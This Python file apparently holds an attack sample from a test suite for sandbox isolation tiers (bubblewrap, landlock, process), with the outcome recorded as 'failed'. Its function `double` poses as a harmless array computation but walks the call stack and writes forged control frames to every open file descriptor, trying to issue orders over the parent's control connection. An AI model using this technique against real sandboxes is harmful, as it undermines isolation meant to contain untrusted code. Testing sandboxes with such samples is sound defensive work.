"""Write to every descriptor there is, the parent's control connection among them."""

import contextlib
import os
import struct
import sys

import numpy as np

ATTACK = "orders forged on all descriptors"
OUTCOME = "failed"
TIERS = ("bubblewrap", "landlock", "process")


def server():
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "channel"):
        frame = frame.f_back
    return frame.f_locals["self"], frame.f_locals.get("number", 1)


def double(x):
    own = server()[0].channel.socket.fileno()
    for number in range(3, 64):
        if number != own:
            with contextlib.suppress(OSError):
                os.write(number, struct.pack("<Qi", 1, 0) * 10)
    return np.zeros_like(x)
